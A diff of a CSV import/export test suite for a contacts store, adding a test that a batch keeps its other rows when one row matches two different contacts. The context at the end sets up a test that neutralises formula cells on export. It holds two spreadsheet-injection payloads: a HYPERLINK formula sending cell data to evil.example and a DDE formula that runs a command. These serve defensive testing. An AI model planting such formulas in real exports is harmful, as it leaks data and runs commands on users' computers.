@@ -109,6 +109,32 @@ describe('CSV import and export', () => {
     expect(await t().store.tags.list(bob?.id ?? '')).toEqual(['welcomed']);
   });
 
+  it('keeps the other rows of a batch when one names two different contacts, writing nothing of it', async () => {
+    await t().store.contacts.upsertByIdentity({ email: 'x@example.com', externalId: 'crm-x' });
+    await t().store.contacts.upsertByIdentity({ email: 'y@example.com', externalId: 'crm-y' });
+    const res = await importCsv(
+      [
+        'email,externalId,tags,score:SCORE,plan',
+        'ann@example.com,,lead,5,pro',
+        'x@example.com,crm-y,lead,9,team',
+        'ann@example.com,crm-ann,webinar,7,',
+        '',
+      ].join('\n'),
+    ).expect(200);
+    expect(res.body).toMatchObject({ imported: 2, created: 1, failed: 1 });
+    expect(res.body.errors).toEqual([
+      { line: 3, message: expect.stringMatching(/belong to two different contacts/) },
+    ]);
+    const ann = await t().store.contacts.findByExternalId('crm-ann');
+    expect(ann).toMatchObject({ email: 'ann@example.com', attributes: { plan: 'pro' } });
+    expect(await t().store.tags.list(ann?.id ?? '')).toEqual(['lead', 'webinar']);
+    expect(await t().store.scores.get(ann?.id ?? '', 'SCORE')).toBe(7);
+    const x = await t().store.contacts.findByEmail('x@example.com');
+    expect(x?.attributes).toEqual({});
+    expect(await t().store.tags.list(x?.id ?? '')).toEqual([]);
+    expect(await t().store.scores.get(x?.id ?? '', 'SCORE')).toBeUndefined();
+  });
+
   it('neutralises formula cells in the export, keeps negative scores as numbers, and imports back exactly', async () => {
     const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
     const dde = "+cmd|' /C calc'!A0";
